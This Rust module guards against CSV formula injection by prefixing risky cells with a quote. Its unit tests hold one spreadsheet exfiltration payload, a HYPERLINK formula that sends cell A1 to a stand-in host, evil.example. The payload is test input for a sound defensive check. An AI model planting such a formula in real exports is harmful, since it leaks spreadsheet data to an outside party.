//! CSV that a spreadsheet opens as text. A cell that starts with `=`, `+`, `-`, `@`, a tab
//! or a carriage return is read as a formula by Excel, LibreOffice and Google Sheets, and a
//! formula can fetch a URL with the sheet's contents; a void reason or a reference written
//! by a client must not become one. As OWASP's CSV-injection guidance advises, such a cell
//! gets a leading `'`, which spreadsheets show as text; so does a cell that starts with `'`
//! itself, so that `-5` and `'-5` stay apart: a cell that starts with `'` lost one to get
//! its value. Quotes inside cells are doubled by the writer as CSV requires.

use std::borrow::Cow;
use std::io::Write;

/// The characters that make a spreadsheet evaluate a cell, and the `'` that marks a cell
/// that would have been.
const PREFIXED_STARTS: [char; 7] = ['=', '+', '-', '@', '\t', '\r', '\''];

/// A cell as a spreadsheet should show it: unchanged, or prefixed with `'` when it would be
/// evaluated or already starts with `'`.
pub fn inert(cell: &str) -> Cow<'_, str> {
    if cell.starts_with(PREFIXED_STARTS) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// A CSV writer whose every cell goes through [`inert`].
pub struct SpreadsheetCsv<W: Write>(csv::Writer<W>);

impl<W: Write> SpreadsheetCsv<W> {
    pub fn new(out: W) -> Self {
        Self(csv::Writer::from_writer(out))
    }

    pub fn write_record<I, T>(&mut self, record: I) -> Result<(), String>
    where
        I: IntoIterator<Item = T>,
        T: AsRef<str>,
    {
        let cells: Vec<String> = record
            .into_iter()
            .map(|cell| inert(cell.as_ref()).into_owned())
            .collect();
        self.0.write_record(&cells).map_err(|e| e.to_string())
    }

    pub fn flush(&mut self) -> Result<(), String> {
        self.0.flush().map_err(|e| e.to_string())
    }

    /// The output, once every record is written to it.
    pub fn into_inner(self) -> Result<W, String> {
        self.0.into_inner().map_err(|e| e.error().to_string())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn cells_a_spreadsheet_would_evaluate_are_written_as_text() {
        for (cell, written) in [
            (
                r#"=HYPERLINK("http://evil.example/?x="&A1,"open")"#,
                r#"'=HYPERLINK("http://evil.example/?x="&A1,"open")"#,
            ),
            ("-2-3", "'-2-3"),
            ("+1", "'+1"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\tx", "'\tx"),
            ("\rx", "'\rx"),
            // A leading quote gains one too, so that each cell written has one value.
            ("'-5", "''-5"),
            ("'", "''"),
            ("'text", "''text"),
        ] {
            assert_eq!(inert(cell), written);
        }
        assert_ne!(inert("-5"), inert("'-5"));
        for cell in [
            "",
            "refund",
            "2026-11-29T10:15:02.318Z",
            "17 4821",
            "a=b",
            "{\"k\": -1}",
        ] {
            assert_eq!(inert(cell), cell);
        }
        let mut csv = SpreadsheetCsv::new(Vec::new());
        csv.write_record(["=1+1", "a,\"b\"", "ok"]).unwrap();
        csv.flush().unwrap();
        let text = String::from_utf8(csv.0.into_inner().unwrap()).unwrap();
        assert_eq!(text, "'=1+1,\"a,\"\"b\"\"\",ok\n");
    }
}
